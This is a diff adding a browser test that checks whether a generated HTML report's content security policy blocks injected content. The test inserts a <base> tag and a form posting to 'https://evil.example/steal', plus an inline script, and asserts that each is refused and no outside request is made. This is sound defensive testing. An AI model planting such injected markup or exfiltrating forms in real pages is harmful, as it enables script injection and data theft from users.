@@ -122,6 +122,45 @@ describe.skipIf(!hasChromium)(title, () => {
     });
   });
 
+  it('the content security policy refuses navigation and any script but the page’s own', async () => {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    const requests: string[] = [];
+    page.on('request', (r) => requests.push(r.url()));
+    const url = pathToFileURL(join(dir, 'top.html')).href;
+    try {
+      await page.goto(url);
+      await expect.poll(() => page.locator('#icicle .box').count()).toBeGreaterThan(0);
+      // What a name would do if it ever got past the escaping: a form, a <base>, a script, a refresh.
+      const violations = await page.evaluate(async () => {
+        const seen: string[] = [];
+        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+        const base = document.createElement('base');
+        base.href = 'https://evil.example/';
+        document.head.append(base);
+        const script = document.createElement('script');
+        script.textContent = 'window.pwned = true';
+        document.body.append(script);
+        const form = document.createElement('form');
+        form.action = 'https://evil.example/steal';
+        form.method = 'get';
+        document.body.append(form);
+        form.submit();
+        await new Promise((r) => setTimeout(r, 300));
+        return { seen, pwned: (window as unknown as { pwned?: boolean }).pwned === true, base: document.baseURI };
+      });
+      await page.waitForTimeout(300);
+      expect(page.url()).toBe(url);
+      expect(violations.pwned).toBe(false);
+      expect(violations.base).toBe(url);
+      expect(violations.seen).toEqual(expect.arrayContaining(['base-uri', 'script-src-elem', 'form-action']));
+      expect(requests.filter((r) => r !== url)).toEqual([]);
+      expect(await page.locator('meta[http-equiv="refresh" i]').count()).toBe(0);
+    } finally {
+      await context.close();
+    }
+  });
+
   it('trend: one chart point per snapshot, the projection, and a leak card for the leak', async () => {
     await open('trend', async (page) => {
       expect(await page.locator('#total-chart circle.snapshot').count()).toBe(8);
